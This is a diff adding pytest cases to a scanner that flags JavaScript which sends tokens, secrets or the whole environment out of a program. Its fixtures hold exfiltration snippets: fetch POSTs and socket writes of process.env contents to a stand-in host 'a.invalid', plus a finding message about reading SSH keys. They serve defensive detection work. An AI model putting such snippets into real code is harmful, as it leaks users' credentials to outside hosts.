@@ -114,3 +114,40 @@ fetch('https://a.invalid/s', { method: 'POST', body: text });
     assert "SSH keys (~/.ssh/id_rsa) (line 1)" in finding.message
     assert "sends it (line 4)" in finding.message
     assert finding.line == 4
+
+
+CLIENT = """
+const { A_TOKEN, B_SECRET } = process.env;
+class Client { constructor() { this._options = { a: A_TOKEN, b: B_SECRET }; } }
+"""
+
+
+def test_a_field_of_a_class_is_none_of_the_objects_that_a_function_makes() -> None:
+    """Two libraries in one bundle have fields of the same name."""
+    request = "function Request(o) { this._options = o; }\n"
+    run = ".prototype.run = function () { fetch(url, { body: JSON.stringify(this._options) }); };"
+    assert findings_of(CHECK, f"{START}{CLIENT}{request}Request{run}") == []
+    assert worst(findings_of(CHECK, f"{START}{CLIENT}Client{run}"), RULE) == Severity.CRITICAL
+    heir = CLIENT.replace("class Client {", "class Client extends Request { ")
+    sent = findings_of(CHECK, f"{START}{heir}{request}Request{run}")
+    assert worst(sent, RULE) == Severity.CRITICAL
+
+
+CONNECTED = "const socket = new net.Socket(); const all = JSON.stringify(process.env);"
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "localhost"])
+def test_a_socket_that_is_connected_to_this_machine_sends_nothing(host: str) -> None:
+    source = f"{CONNECTED}socket.connect(port, '{host}', () => socket.write(all));"
+    assert findings_of(CHECK, START + source) == []
+
+
+@pytest.mark.parametrize(
+    "more",
+    ["socket.connect(443, host);", "socket.connect(443, 'a.invalid');", "socket.connect(o);"],
+)
+def test_a_socket_that_may_be_connected_elsewhere_sends(more: str) -> None:
+    rule = "environment-exfiltration"
+    for here in ("", "socket.connect(port, '127.0.0.1');"):
+        source = f"{CONNECTED}{here}{more}socket.write(all);"
+        assert worst(findings_of(CHECK, START + source), rule) == Severity.CRITICAL
